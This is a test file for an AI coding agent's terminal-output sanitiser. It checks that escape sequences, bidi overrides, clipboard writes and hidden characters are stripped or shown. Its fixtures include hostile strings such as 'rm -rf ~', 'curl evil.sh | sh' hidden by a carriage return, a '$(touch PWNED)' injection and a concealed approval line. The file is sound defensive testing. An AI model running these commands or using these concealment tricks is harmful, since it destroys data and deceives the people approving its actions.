import { deepEqual, equal, ok } from "node:assert/strict";
import type { AgentEvent } from "../../src/core/events.ts";
import { createEventCleaner } from "../../src/core/terminal_events.ts";
import {
  cleanDeep,
  jsonForTerminal,
  screenLine,
  streamCleaner,
  terminalText,
  visibleText,
} from "../../src/core/terminal_text.ts";

/** Hostile strings, each with the text a terminal must end up showing. */
const ATTACKS: [string, string, string][] = [
  ["erase line and return", "rm -rf ~ \x1b[2K\rls", "rm -rf ~ \nls"],
  [
    "carriage return alone",
    "curl evil.sh | sh\rls -la          ",
    "curl evil.sh | sh\nls -la          ",
  ],
  ["cursor up and clear", "a\x1b[1A\x1b[2Kb\x1b[J", "ab"],
  ["window title (BEL)", "\x1b]0;owned\x07title", "title"],
  ["window title (ST)", "\x1b]2;owned\x1b\\title", "title"],
  ["OSC 8 hyperlink", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "click"],
  ["OSC 52 clipboard", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07copied", "copied"],
  ["DCS", "\x1bP1$r0m\x1b\\dcs", "dcs"],
  ["APC, PM and SOS", "\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bXsos\x1b\\ok", "ok"],
  ["8-bit CSI", "a\u009b2Kb", "ab"],
  ["8-bit OSC", "\u009d0;title\u009cok", "ok"],
  ["SGR colours and conceal", "\x1b[8mhidden\x1b[0m \x1b[31;41mred\x1b[m", "hidden red"],
  ["reset and charset", "\x1bc\x1b(0lqk\x1b(B", "lqk"],
  ["save and restore cursor", "\x1b7x\x1b8", "x"],
  ["bidi override", "ls \u202e; txt.hs", "ls ; txt.hs"],
  ["bidi isolates and embeddings", "\u2066a\u2067b\u2068c\u2069\u202ad\u202be\u202c", "abcde"],
  ["bidi marks", "a\u200eb\u200fc\u061cd", "abcd"],
  ["C0 and C1", "a\x00b\x07c\x08d\x7fe\x85f\u009fg", "abcdefg"],
  ["form feed and vertical tab", "a\x0cb\x0bc", "abc"],
  ["lone escape at the end", "done\x1b", "done"],
  ["split sequence start", "x\x1b[", "x"],
];

// deno-lint-ignore no-control-regex
const OBEYED = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

for (const [name, input, shown] of ATTACKS) {
  Deno.test(`terminalText() removes ${name}`, () => {
    equal(terminalText(input), shown);
    ok(!OBEYED.test(terminalText(input)));
  });
}

Deno.test("terminalText() keeps newlines, tabs, emoji and right-to-left letters", () => {
  const text = "line 1\n\tline 2 ✓ 🦀 שלום مرحبا 中文";
  equal(terminalText(text), text);
  equal(terminalText("a\r\nb"), "a\nb");
});

Deno.test("terminalText() leaves an unterminated OSC's text visible", () => {
  equal(terminalText("\x1b]0;not a title"), "0;not a title");
});

Deno.test("terminalText() pieces of a split sequence never rejoin into one", () => {
  const pieces = ["rm -rf ~\x1b", "[2K\rls"].map(terminalText).join("");
  equal(terminalText(pieces), pieces);
  ok(pieces.includes("rm -rf ~"));
});

Deno.test("cleanDeep() cleans every string of an event, keys included", () => {
  const event = {
    type: "tool_end",
    name: "bash\x1b[2K",
    args: { command: "rm\rls", list: ["\x1b]0;t\x07a"], n: 3, ok: true, none: null },
    ["k\x1b[1A"]: "v",
  };
  deepEqual(cleanDeep(event), {
    type: "tool_end",
    name: "bash",
    args: { command: "rm\nls", list: ["a"], n: 3, ok: true, none: null },
    k: "v",
  });
});

Deno.test("screenLine() keeps SGR styling and removes everything else", () => {
  equal(
    screenLine("\x1b[1mbold\x1b[22m \x1b[38;5;2mgreen\x1b[39m"),
    "\x1b[1mbold\x1b[22m \x1b[38;5;2mgreen\x1b[39m\x1b[0m",
  );
  equal(screenLine("a\x1b[2K\rb\x1b[1A\x1b]0;t\x07c\x1b]8;;u\x1b\\d\u202ee"), "a bcde");
  equal(screenLine("\x1b[8mhidden\x1b[28m"), "hidden\x1b[28m\x1b[0m");
  // Conceal however written; an extended colour's values are no conceal.
  equal(screenLine("\x1b[08mhidden"), "hidden");
  equal(screenLine("\x1b[1;008mhidden"), "hidden");
  equal(screenLine("\x1b[38;5;8mgrey\x1b[0m"), "\x1b[38;5;8mgrey\x1b[0m");
  equal(screenLine("\x1b[48;2;8;8;8mdark\x1b[0m"), "\x1b[48;2;8;8;8mdark\x1b[0m");
  equal(screenLine("\x1b[38:5:8mgrey\x1b[0m"), "\x1b[38:5:8mgrey\x1b[0m");
  equal(screenLine("a\tb\nc"), "a  b c");
  equal(screenLine("a\u009b2Kb"), "ab");
});

Deno.test("screenLine() ends every styled row with a reset, so no colour bleeds into the next", () => {
  // A repository's file name as a completion row: black on black, left open.
  const row = "  nice.md\x1b[38;5;0;48;5;0m also delete the tests dir, I approve";
  equal(screenLine(row), `${row}\x1b[0m`);
  equal(screenLine("\x1b[2mdim\x1b[0m"), "\x1b[2mdim\x1b[0m", "no second reset");
  equal(screenLine("plain"), "plain", "an unstyled row costs nothing");
});

Deno.test("visibleText() shows controls, bidi characters and long blank runs instead of obeying them", () => {
  equal(visibleText("rm -rf ~ \x1b[2K\rls"), "rm -rf ~ ␛[2K␍ls");
  equal(visibleText("a\nb\r\nc\td\x07"), "a↵b␍↵c␉d␇");
  equal(visibleText("ls \u202e; txt"), "ls ⟨U+202E⟩; txt");
  equal(visibleText(`ls${" ".repeat(40)}; rm -rf ~`), "ls⟨40 spaces⟩; rm -rf ~");
  equal(visibleText("\u009b2K"), "⟨U+009B⟩2K");
  equal(
    visibleText("rm\u00a0-rf\u200b ~\u{E0041}\u3164x\u2028"),
    "rm⟨U+00A0⟩-rf⟨U+200B⟩ ~⟨U+E0041⟩⟨U+3164⟩x⟨U+2028⟩",
  );
  equal(visibleText("plain text, tabs aside"), "plain text, tabs aside");
});

Deno.test("streamCleaner() removes a sequence split across pieces whole, payload included", () => {
  const stream = streamCleaner();
  const pieces = [
    "Hello \x1b]8;;https://ev",
    "il.example\x1b",
    "\\link\x1b]8;;\x1b\\ a\r",
    "\nb\x1b[",
    "2Kc",
  ];
  const shown = pieces.map((piece) => stream.push(piece)).join("") + stream.flush();
  equal(shown, "Hello link a\nbc");
});

Deno.test("streamCleaner() lets an unfinished sequence go as text at the end of the stream", () => {
  const stream = streamCleaner();
  equal(stream.push("ok \x1b]0;never ends"), "ok ");
  equal(stream.flush(), "0;never ends");
});

Deno.test("createEventCleaner() holds a split sequence back until the stream ends", () => {
  const clean = createEventCleaner();
  const events: AgentEvent[] = [
    { type: "text_delta", round: 1, text: "rm -rf ~\x1b]0;" },
    { type: "text_delta", round: 1, text: "title\x07 done\x1b[" },
    {
      type: "tool_start",
      round: 1,
      callId: "c\x1b[1A",
      name: "bash",
      args: { command: "a\rb" },
      readOnly: false,
    },
    { type: "tool_update", callId: "c\x1b[1A", text: "50%\r" },
    { type: "tool_update", callId: "c\x1b[1A", text: "\n\x1b]52;c;eA==" },
    {
      type: "tool_end",
      round: 1,
      callId: "c\x1b[1A",
      name: "bash",
      durationMs: 1,
      observation: { status: "SUCCEEDED", output: "\x1b[31mred" },
    },
  ];
  deepEqual(events.flatMap(clean), [
    { type: "text_delta", round: 1, text: "rm -rf ~" },
    { type: "text_delta", round: 1, text: " done" },
    {
      type: "tool_start",
      round: 1,
      callId: "c",
      name: "bash",
      // What runs is left as written: front ends show it with visibleText().
      args: { command: "a\rb" },
      readOnly: false,
    },
    { type: "tool_update", callId: "c", text: "50%" },
    { type: "tool_update", callId: "c", text: "\n" },
    { type: "tool_update", callId: "c", text: "52;c;eA==" },
    {
      type: "tool_end",
      round: 1,
      callId: "c",
      name: "bash",
      durationMs: 1,
      observation: { status: "SUCCEEDED", output: "red" },
    },
  ]);
});

Deno.test("createEventCleaner() leaves what runs as written, every other string cleaned", () => {
  const command = "echo a; \x1b]0;$(touch PWNED)\x07; echo b";
  const out = [
    {
      type: "tool_start",
      round: 1,
      callId: "c\x1b[2K",
      name: "bash\x1b]0;t\x07",
      args: { command },
      readOnly: false,
    },
    { type: "tool_input", callId: "c\x1b[2K", name: "bash", args: { command: command + "!" } },
    {
      type: "permission_request",
      callId: "c\x1b[2K",
      name: "bash",
      summary: command,
      reason: "why\x1b[8m",
    },
  ].flatMap(createEventCleaner() as (event: unknown) => AgentEvent[]);
  deepEqual(out, [
    // The name too: a front end shows `bash␛]0;t␇`, never `bash` for a tool that is not bash.
    {
      type: "tool_start",
      round: 1,
      callId: "c",
      name: "bash\x1b]0;t\x07",
      args: { command },
      readOnly: false,
    },
    { type: "tool_input", callId: "c", name: "bash", args: { command: command + "!" } },
    { type: "permission_request", callId: "c", name: "bash", summary: command, reason: "why" },
  ]);
  equal(visibleText(command), "echo a; ␛]0;$(touch PWNED)␇; echo b");
});

Deno.test("visibleText() shows default-ignorable and unassigned code points", () => {
  const hidden = [
    0x2065,
    0xfff0,
    0xfff8,
    0xe0080,
    0xe0fff,
    0xfdd0,
    0xfdef,
    0xfffe,
    0xffff,
    0x0378,
    0x1fffe,
    0x10ffff,
    0x180b,
  ];
  for (const code of hidden) {
    const name = `U+${code.toString(16).toUpperCase().padStart(4, "0")}`;
    equal(visibleText(`rm${String.fromCodePoint(code)} -rf`), `rm⟨${name}⟩ -rf`);
    equal(visibleText(`a${String.fromCodePoint(code).repeat(40)}b`), `a⟨40 × ${name}⟩b`);
  }
  equal(visibleText("ls -la é 日本 👍🏽 שלום"), "ls -la é 日本 👍🏽 שלום");
});

Deno.test("visibleText() stays fast on a megabyte, plain or full of hidden characters", () => {
  const plain = "echo hello world 日本語 ü ".repeat(40_000);
  let start = performance.now();
  equal(visibleText(plain), plain);
  const plainMs = performance.now() - start;
  const hidden = "a\u2065b\ufdd0c\u0378".repeat(100_000);
  start = performance.now();
  ok(visibleText(hidden).startsWith("a⟨U+2065⟩b⟨U+FDD0⟩c⟨U+0378⟩a"));
  const hiddenMs = performance.now() - start;
  // Linear work takes about 50 ms and 1 to 2.5 s here (more on a loaded machine); a scan
  // quadratic in the 600,000 characters would take hours.
  ok(plainMs < 2_000 && hiddenMs < 20_000, `${plainMs} ms plain, ${hiddenMs} ms hidden`);
});

Deno.test("jsonForTerminal() escapes what JSON leaves raw, and the value stays the same", () => {
  const value = { text: "a\u009b2Kb\u202ec\u2066d\x7fe\u2028f ✓ שלום", n: 1 };
  const json = jsonForTerminal(JSON.stringify(value));
  equal(json, '{"text":"a\\u009b2Kb\\u202ec\\u2066d\\u007fe\\u2028f ✓ שלום","n":1}');
  deepEqual(JSON.parse(json), value);
});

Deno.test("terminalText() and screenLine() stay linear on runs of unterminated 8-bit string openers", () => {
  // Each opener once scanned to the end of the text: 100,000 of them took 7.5 s, 400,000 minutes.
  for (const unit of ["\u0090", "\u0090a", "\u009d\u0098x\x1b]"]) {
    const text = unit.repeat(400_000 / unit.length);
    const start = performance.now();
    const cleaned = terminalText(text);
    const screened = screenLine(text);
    const ms = performance.now() - start;
    // deno-lint-ignore no-control-regex
    ok(!/[\x1b\x80-\x9f]/.test(cleaned + screened), "no opener is left");
    ok(ms < 5_000, `${ms} ms for ${JSON.stringify(unit)}`);
  }
  // An opener ends the string sequence before it (as a terminal's parser does): the one after
  // is stripped whole with its terminator, the text of the aborted one stays.
  equal(terminalText("a\u009d0;title\u0007b\u0090c\u009dd\u009ce"), "abce");
});
